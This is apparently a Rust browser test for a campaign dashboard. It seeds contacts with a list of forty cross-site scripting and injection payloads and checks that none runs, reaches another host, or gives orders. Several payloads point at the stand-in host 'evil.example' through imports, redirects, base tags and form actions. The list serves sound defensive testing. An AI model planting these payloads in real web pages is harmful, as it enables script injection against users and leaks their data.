//! The dashboard in a real browser, over loopback: two hundred people whose names and answers are attacks, every page, and
//! somebody else's page beside ours. Needs node, npm and Chromium; says so when they lack.

use crate::server::scene::{Scene, Somebody, filled};
use campaign_engine::runtime::ask::Ask;
use campaign_engine::server::dashboard::access::Role;
use campaign_engine::server::dashboard::router;
use serde_json::{Value, json};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Mutex;
use tokio::net::TcpListener;

const PACKAGES: [&str; 2] = ["playwright-core@1.65.1", "axe-core@4.14.1"];
const BROWSERS: [&str; 3] = ["chromium", "chromium-browser", "google-chrome"];
const PEOPLE: usize = 200;

/// What each would do where a page takes it for its own: run, be loaded from elsewhere, leave its place. `N` is its number.
const ATTACKS: [&str; 40] = [
    "<script>pwn(N)</script>",
    "<ScRiPt >pwn(N)</sCrIpT>",
    "<img src=x onerror=pwn(N)>",
    "<svg/onload=pwn(N)>",
    "<svg><animate onbegin=pwn(N) attributeName=x>",
    "\"><script>pwn(N)</script>",
    "'><script>pwn(N)</script>",
    "</title><script>pwn(N)</script>",
    "</textarea><script>pwn(N)</script>",
    "</script><script>pwn(N)</script>",
    "--><script>pwn(N)</script><!--",
    "]]><script>pwn(N)</script>",
    "<a href=\"javascript:pwn(N)\">x</a>",
    "javascript:pwn(N)",
    "\" autofocus onfocus=pwn(N) x=\"",
    "' onmouseover='pwn(N)",
    "`onclick=pwn(N)`",
    "'-pwn(N)-'",
    "\\\";pwn(N);//",
    "${pwn(N)}",
    "{{constructor.constructor('pwn(N)')()}}",
    "<iframe srcdoc=\"<script>parent.pwn(N)</script>\">",
    "<iframe src=javascript:parent.pwn(N)>",
    "<object data=javascript:pwn(N)>",
    "<embed src=javascript:pwn(N)>",
    "<details open ontoggle=pwn(N)>",
    "<video><source onerror=pwn(N)>",
    "<input type=image src onerror=pwn(N)>",
    "<body onload=pwn(N)>",
    "<marquee onstart=pwn(N)>",
    "<style>@import'//evil.example/N'</style>",
    "<link rel=stylesheet href=//evil.example/N>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/N\">",
    "<base href=//evil.example/N>",
    "<form action=//evil.example/N><button>",
    "<img src=//evil.example/N>",
    "<template><script>pwn(N)</script></template>",
    "&lt;script&gt;pwn(N)&lt;/script&gt;",
    "%3Cscript%3Epwn(N)%3C/script%3E",
    "\\u003cscript\\u003epwn(N)",
];

fn attack(n: usize) -> String {
    ATTACKS[n % ATTACKS.len()].replace('N', &n.to_string())
}

fn first_of(programs: &[&'static str]) -> Option<&'static str> {
    programs.iter().copied().find(|program| Command::new(program).arg("--version").output().is_ok_and(|o| o.status.success()))
}

/// One test installs the packages; the others wait for it.
static INSTALLING: Mutex<()> = Mutex::new(());

/// A folder from which the packages can be required: made once, kept with the other build products.
pub fn installed() -> PathBuf {
    let _one = INSTALLING.lock().unwrap();
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("browser");
    let has = |package: &str| folder.join("node_modules").join(package.split('@').next().unwrap()).join("package.json").exists();
    if !PACKAGES.iter().all(|package| has(package)) {
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("package.json"), "{\"private\": true}\n").unwrap();
        let install = ["install", "--no-audit", "--no-fund"].iter().chain(&PACKAGES);
        let output = Command::new("npm").args(install).current_dir(&folder).output().unwrap();
        assert!(output.status.success(), "npm install failed: {}", String::from_utf8_lossy(&output.stderr));
    }
    folder
}

/// What the browser saw.
fn browse(browser: &str, visit: &Value) -> Value {
    drive("browser.mjs", browser, visit)
}

/// What that script says of what it is given.
pub fn drive(script: &str, browser: &str, visit: &Value) -> Value {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/server").join(script);
    let mut node = Command::new("node")
        .arg(script)
        .arg(
            std::env::split_paths(&std::env::var_os("PATH").unwrap())
                .map(|dir| dir.join(browser))
                .find(|at| at.exists())
                .unwrap(),
        )
        .current_dir(installed())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    node.stdin.take().unwrap().write_all(visit.to_string().as_bytes()).unwrap();
    let output = node.wait_with_output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap()
}

/// A scene that is served, and the pages of it.
async fn served(scene: &Scene) -> (String, Vec<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let front = router(&scene.front);
    tokio::spawn(async move { axum::serve(listener, front).await });
    let is_page = |path: &str| !path.starts_with("/api/") && !path.contains('.') && !path.starts_with("/assets");
    let routes = scene.routes();
    let pages = routes.iter().filter(|route| route.method == "GET" && route.role == Role::Reader && is_page(route.path));
    (base, pages.map(filled).collect())
}

/// The browser; none: something it needs is not installed.
pub fn browser() -> Option<&'static str> {
    let found = first_of(&BROWSERS).filter(|_| first_of(&["node"]).is_some() && first_of(&["npm"]).is_some());
    if found.is_none() {
        println!("skipped: node, npm or chromium is not installed");
    }
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn no_attack_in_a_name_or_an_answer_does_anything_but_appear() {
    let Some(browser) = browser() else { return };
    let somebody = |n| Somebody { slug: format!("person-{n}"), first_name: attack(n), reply: Some(attack(n + 7)) };
    let people: Vec<Somebody> = (1..=PEOPLE).map(somebody).collect();
    let scene = Scene::of(&people);
    scene.goes_wrong();
    scene.desk.ask("backup", Value::Null).unwrap();
    let (base, pages) = served(&scene).await;
    assert!(pages.len() > 6, "{pages:?}");
    let mut visits: Vec<Value> = pages.iter().map(|path| json!({ "path": path, "shows": [] })).collect();
    visits.extend((1..=PEOPLE).map(|n| json!({ "path": format!("/contacts/{n}"), "shows": [attack(n)] })));
    let routes = scene.routes();
    let orders = routes.iter().filter(|route| route.method == "POST" && route.role == Role::Operator).map(filled);
    let orders: Vec<String> = orders.collect();
    let visit = json!({ "base": base, "token": scene.token.expose(), "pages": visits, "judged": pages, "orders": orders, "pictures": null });
    let seen = tokio::task::spawn_blocking(move || browse(browser, &visit)).await.unwrap();

    for (what, list) in [
        ("ran", "an attack ran"),
        ("dialogs", "a dialog opened"),
        ("refused", "the browser had to refuse what a page holds"),
        ("elsewhere", "something was asked of another host"),
        ("faults", "a page does not work"),
        ("missing", "a value is not there as it was written"),
        ("barriers", "somebody cannot use a page"),
    ] {
        assert_eq!(seen[what], json!([]), "{list}");
    }
    let answers: Vec<u64> = seen["orders"].as_array().unwrap().iter().filter_map(Value::as_u64).collect();
    assert_eq!(answers.len(), orders.len());
    assert!(answers.iter().all(|status| [401, 403].contains(status)), "a foreign page gave orders: {answers:?} of {orders:?}");
    assert_eq!(*scene.desk.commands.lock().unwrap(), Vec::<Value>::new());
    assert_eq!(scene.desk.backups.lock().unwrap().len(), 1);
}

/// Every page as people see it, in light and dark and on a telephone, left beneath `target/tmp/pictures` to be looked at (`just pictures`).
#[tokio::test(flavor = "multi_thread")]
async fn every_page_is_pictured_in_light_and_dark() {
    let Some(browser) = browser() else { return };
    let replies =
        [("Ada", Some("Gladly. Shall we say Tuesday?")), ("Bruno", None), ("Chiara", Some("Who are you?")), ("Dan", None)];
    let people: Vec<Somebody> = replies
        .iter()
        .map(|(name, reply)| Somebody {
            slug: name.to_lowercase(),
            first_name: (*name).to_owned(),
            reply: reply.map(str::to_owned),
        })
        .collect();
    let scene = Scene::of(&people);
    scene.goes_wrong();
    scene.asks("Bruno, shall I send you the short version on Tuesday?");
    scene.desk.ask("backup", Value::Null).unwrap();
    let (base, mut pages) = served(&scene).await;
    pages.push("/login".to_owned());
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("pictures");
    std::fs::create_dir_all(&folder).unwrap();
    let visits: Vec<Value> = pages.iter().map(|path| json!({ "path": path, "shows": [] })).collect();
    let visit = json!({ "base": base, "token": scene.token.expose(), "pages": visits, "judged": pages, "orders": [], "pictures": folder });
    let seen = tokio::task::spawn_blocking(move || browse(browser, &visit)).await.unwrap();
    assert_eq!((&seen["faults"], &seen["barriers"]), (&json!([]), &json!([])));
    for name in ["overview", "errors", "settings", "login"]
        .iter()
        .flat_map(|page| ["light", "dark", "narrow"].map(|way| format!("{page}-{way}.png")))
    {
        assert!(folder.join(&name).exists(), "{name}");
    }
}
